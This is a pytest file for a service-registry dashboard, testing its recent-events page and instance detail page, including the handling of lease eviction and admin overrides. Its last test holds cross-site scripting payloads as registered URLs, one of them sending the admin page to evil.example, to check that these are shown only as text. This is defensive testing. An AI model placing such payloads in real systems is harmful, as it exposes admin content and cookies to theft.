""" "Last 1000 since startup" and the instance detail page."""

from __future__ import annotations

import re

import pytest
from django.test import Client

from registry.domain import constants as c
from registry.models import StatusOverrideRecord
from tests.dashboard.conftest import cells, kv, register, soup

TIME = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d \+0000"


def pane(page, name) -> list[list[str]]:
    return cells(page.select_one(f"#events-{name}"))


def test_lastn_has_the_header_blocks_and_three_tabs(web):
    page = soup(web.get("/lastn"))
    assert page.title.get_text() == "Eureka - Last N events"
    assert [h.get_text(strip=True) for h in page.find_all("h1")] == ["System Status", "DS Replicas"]
    tabs = [(a.get_text(strip=True), "active" in a["class"]) for a in page.select(".tabs a")]
    assert tabs == [
        ("Last 1000 cancelled leases", False),
        ("Last 1000 newly registered leases", True),
        ("Last 1000 status overrides", False),
    ]
    for name in ("cancelled", "registered", "overrides"):
        assert pane(page, name) == [["No results available"]]
        assert [th.get_text() for th in page.select(f"#events-{name} thead th")] == [
            "Timestamp",
            "Lease",
            "Cause",
        ]


def registrations_an_override_a_cancel_and_an_expired_lease(web, node, clock) -> None:
    """10.0.0.1 registered, registered again, overridden and cancelled; 10.0.0.2 registered with a
    5 s lease and left to expire."""
    register(web, host="10.0.0.1")
    clock.advance(1000)
    register(web, host="10.0.0.1")  # a refresh of the same lease
    clock.advance(1000)
    register(web, host="10.0.0.2", leaseInfo={"renewalIntervalInSecs": 30, "durationInSecs": 5})
    clock.advance(1000)
    web.put("/eureka/apps/ORDERS/10.0.0.1:orders:8080/status?value=OUT_OF_SERVICE")
    web.delete("/eureka/apps/ORDERS/10.0.0.1:orders:8080")
    clock.advance(120_000)
    node.registry.renew("ORDERS", "10.0.0.9:none:1", clock())  # nothing: keeps the meter honest


def test_self_preservation_holds_the_expired_lease_of_the_lastn_scenario(web, node, clock):
    registrations_an_override_a_cancel_and_an_expired_lease(web, node, clock)
    assert node.registry.config.enable_self_preservation
    # Renewals are 0 <= threshold: self-preservation holds the expired lease.
    assert node.registry.run_eviction(clock()).evicted == []


def test_lastn_lists_newest_first_with_the_cause(make_node, clock):
    # Without self-preservation the expired lease is evicted, whatever the renewals.
    node = make_node(enable_self_preservation=False)
    web = Client()
    registrations_an_override_a_cancel_and_an_expired_lease(web, node, clock)
    assert node.registry.run_eviction(clock()).evicted == [("ORDERS", "10.0.0.2:orders:8080")]

    page = soup(web.get("/lastn"))
    assert [row[1:] for row in pane(page, "registered")] == [
        ["ORDERS(10.0.0.2:orders:8080)", "register"],
        ["ORDERS(10.0.0.1:orders:8080)", "re-register"],
        ["ORDERS(10.0.0.1:orders:8080)", "register"],
    ]
    assert [row[1:] for row in pane(page, "cancelled")] == [
        ["ORDERS(10.0.0.2:orders:8080)", "eviction"],
        ["ORDERS(10.0.0.1:orders:8080)", "cancel"],
    ]
    assert [row[1:] for row in pane(page, "overrides")] == [
        ["ORDERS(10.0.0.1:orders:8080)", "override → OUT_OF_SERVICE"],
    ]
    assert all(re.fullmatch(TIME, row[0]) for row in pane(page, "registered"))


def test_lastn_keeps_only_the_last_thousand(web, node, clock):
    for n in range(1003):
        register(web, host=f"10.{n // 250}.{n % 250}.1")
    rows = pane(soup(web.get("/lastn")), "registered")
    assert len(rows) == 1000
    assert rows[0][1] == "ORDERS(10.4.2.1:orders:8080)", "newest first"
    assert rows[-1][1] == "ORDERS(10.0.3.1:orders:8080)", "the three oldest are gone"


# ------------------------------------------------------------------------ instance page


@pytest.mark.django_db
def test_instance_page_shows_every_field_metadata_lease_times_and_events(web, node, clock):
    instance_id = register(
        web,
        host="10.0.0.1",
        metadata={"zone": "a", "version": "2.1"},
        statusPageUrl="http://ops:secret@10.0.0.1:8080/info",
        last_dirty=clock() - 5000,
    )
    clock.advance(10_000)
    node.registry.renew("ORDERS", instance_id, clock())
    web.put(f"/eureka/apps/ORDERS/{instance_id}/status?value=OUT_OF_SERVICE")
    response = web.get(f"/instances/ORDERS/{instance_id}/")
    assert response.status_code == 200
    assert b"secret" not in response.content
    page = soup(response)
    assert page.select_one("h1").get_text() == instance_id
    assert page.select_one("#instance-status").get_text(strip=True) == c.OUT_OF_SERVICE
    lease = kv(page.select_one("#lease"))
    assert list(lease) == [
        "Registered",
        "Last renewal",
        "Last dirty",
        "Eviction deadline",
        "Service up since",
        "Overridden status",
    ]
    assert re.match(TIME + r" \(10 s ago\)", lease["Registered"])
    assert re.match(TIME + r" \(0 s ago\)", lease["Last renewal"])
    assert "(in 1 min 30 s" in lease["Eviction deadline"]
    assert lease["Overridden status"] == c.OUT_OF_SERVICE
    fields = kv(page.select_one("#fields"))
    assert fields["instanceId"] == instance_id
    assert fields["statusPageUrl"] == "http://10.0.0.1:8080/info"
    assert fields["overriddenStatus"] == c.OUT_OF_SERVICE
    assert fields["vipAddress"] == "orders"
    assert re.fullmatch(r"\d{13} " + TIME, fields["lastDirtyTimestamp"])
    assert len(fields) >= 26
    assert kv(page.select_one("#metadata")) == {"zone": "a", "version": "2.1"}
    events = cells(page.select_one("#instance-events"))
    assert [row[1:] for row in events] == [
        ["override → OUT_OF_SERVICE", "instance / API"],
        ["register", "instance / API"],
    ]
    assert page.select_one("#manage-instance") is None, "anonymous readers get no admin link"


@pytest.mark.django_db
def test_instance_page_lists_admin_overrides_and_links_staff_to_the_admin(node, admin_client, admin_user):
    instance_id = register(admin_client, host="10.0.0.1")
    response = admin_client.post(
        f"/admin/registry/instances/ORDERS/{instance_id}/",
        {"action": "take_out_of_service", "reason": "draining for kernel patch"},
    )
    assert response.status_code == 302
    page = soup(admin_client.get(f"/instances/ORDERS/{instance_id}/"))
    manage = page.select_one("#manage-instance")["href"]
    assert manage == "/admin/registry/instances/ORDERS/10.0.0.1:orders:8080/"
    assert admin_client.get(manage).status_code == 200
    records = cells(page.select_one("#instance-records"))
    assert [row[1:] for row in records] == [
        ["admin", "UP → OUT_OF_SERVICE", "Applied", "draining for kernel patch"]
    ]
    events = cells(page.select_one("#instance-events"))
    assert events[0][1:] == ["override → OUT_OF_SERVICE", "admin:admin"]


@pytest.mark.django_db
def test_instance_page_of_a_gone_instance_is_404_but_keeps_its_history(web, node):
    instance_id = register(web, host="10.0.0.1")
    web.delete(f"/eureka/apps/ORDERS/{instance_id}")
    response = web.get(f"/instances/ORDERS/{instance_id}/")
    assert response.status_code == 404
    page = soup(response)
    assert "is not registered with this node" in page.select_one(".form-error").get_text()
    assert [row[1] for row in cells(page.select_one("#instance-events"))] == ["cancel", "register"]
    assert Client().get("/instances/NOPE/never/").status_code == 404
    assert StatusOverrideRecord.objects.count() == 0


def test_instance_index_sends_readers_to_the_console(web):
    response = web.get("/instances/")
    assert response.status_code == 302 and response["Location"] == "/"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        "JavaScript:fetch('/admin/').then(r=>r.text()).then(t=>fetch('//evil.example/?'+t))",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
    ],
)
def test_instance_page_links_only_http_urls_and_shows_the_others_as_text(web, admin_client, url):
    """A registrant chooses its URLs: only http(s) ones become links, as on the status page."""
    instance_id = register(
        web,
        host="10.0.0.1",
        homePageUrl=url,
        statusPageUrl=url,
        healthCheckUrl=url,
        secureHealthCheckUrl="https://10.0.0.1:8443/health",
    )
    for client in (web, admin_client):
        page = soup(client.get(f"/instances/ORDERS/{instance_id}/"))
        links = {a.get_text(): a["href"] for a in page.select("#fields a")}
        assert links == {"https://10.0.0.1:8443/health": "https://10.0.0.1:8443/health"}
        fields = kv(page.select_one("#fields"))
        for name in ("homePageUrl", "statusPageUrl", "healthCheckUrl"):
            assert fields[name] == " ".join(url.split()), name
        hrefs = [a["href"].strip().lower() for a in page.select("a[href]")]
        assert not [href for href in hrefs if not href.startswith(("/", "http://", "https://", "?"))]
